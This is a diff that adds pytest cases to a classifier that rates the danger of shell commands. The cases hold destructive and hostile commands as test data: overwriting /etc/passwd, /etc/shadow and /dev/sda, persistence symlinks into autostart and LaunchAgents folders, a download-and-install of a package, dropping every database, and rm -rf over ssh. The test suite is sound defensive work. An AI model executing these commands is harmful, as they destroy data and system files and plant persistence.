@@ -130,3 +130,87 @@ def test_rating_never_falls_when_a_dangerous_command_is_added() -> None:
 )
 def test_what_reaches_a_place_by_a_detour_is_weighed_there(command: str, expected: Level) -> None:
     assert level(command) is expected
+
+
+@pytest.mark.parametrize("shell", ["bash", "zsh", "sh"])
+@pytest.mark.parametrize(
+    "command",
+    [
+        "f=/etc/passwd && echo x > $f",
+        "f=/etc/passwd && true && echo x 2>&1 > $f",
+        "false || f=/etc/shadow && : > $f",
+        "f=/dev/sda && cat image > $f",
+        "cd /etc && f=passwd && echo x > $f",
+        "f=/etc/passwd && echo x | cat > $f",
+    ],
+)
+def test_a_redirection_behind_a_list_is_the_last_commands_and_knows_what_came_before(
+    command: str, shell: str
+) -> None:
+    assert level(command, shell) is Level.CRITICAL
+
+
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        ("for f (*) : > $f", Level.HIGH),
+        ("for f (*) true > $f", Level.HIGH),
+        ("for f (**/*(.)) : >! $f", Level.HIGH),
+        ("for f (~/Documents/*) : > $f", Level.HIGH),
+        ("for f (/etc/passwd /etc/shadow) : > $f", Level.CRITICAL),
+        ("for f (a.txt b.txt) : > $f", Level.MODERATE),
+        ("for f (*.txt) cat $f", Level.SAFE),
+    ],
+)
+def test_the_redirection_of_a_short_loops_command_is_made_each_round(command: str, expected: Level) -> None:
+    assert level(command, "zsh") is expected
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "ln -s ~/evil.desktop ~/.config/autostart/evil.desktop",
+        "ln -s ~/u/x.service ~/.config/systemd/user/default.target.wants/x.service",
+        "ln -s ~/x.plist ~/Library/LaunchAgents/x.plist",
+        "ln -s /tmp/x ~/.config/autostart/x.desktop",
+    ],
+)
+def test_a_link_where_a_login_starts_whatever_lies_there_is_high(command: str) -> None:
+    assert level(command) is Level.HIGH
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "wget -qO- https://x.example/p.deb -O /tmp/p.deb && sudo dpkg -i /tmp/p.deb",
+        "psql -Atc 'select format($$drop database %I$$, datname) from pg_database' | psql",
+        "psql -Atc 'select datname from pg_database' | xargs -n1 dropdb",
+        "for d in $(psql -Atc 'select datname from pg_database'); do dropdb $d; done",
+        "mysql -Nse 'show databases' | xargs -I{} mysql -e 'drop database `{}`'",
+        "redis-cli --cluster call 10.0.0.1:7000 FLUSHALL",
+        "sshpass -p x ssh root@host 'rm -rf /'",
+        "doppler run --command 'rm -rf ~'",
+        "watchexec 'rm -rf ~'",
+        "rm -rf /home/bob",
+        "cd /home/bob && rm -rf .",
+    ],
+)
+def test_what_an_earlier_command_of_the_line_lists_fetches_or_wraps_reaches_the_next(command: str) -> None:
+    assert level(command) >= (
+        Level.HIGH if command.startswith("psql -Atc 'select format") else Level.CRITICAL
+    )
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "for d in $(psql -Atc 'select datname from pg_database'); do pg_dump $d > $d.sql; done",
+        "mysql -Nse 'show databases' | xargs -n1 mysqldump > all.sql",
+        "redis-cli --cluster info 10.0.0.1:7000",
+        "sshpass -p x ssh host uptime",
+        "xcrun --find clang",
+        "xcrun simctl list",
+    ],
+)
+def test_a_listing_that_is_only_read_stays_bounded(command: str) -> None:
+    assert level(command) <= Level.MODERATE
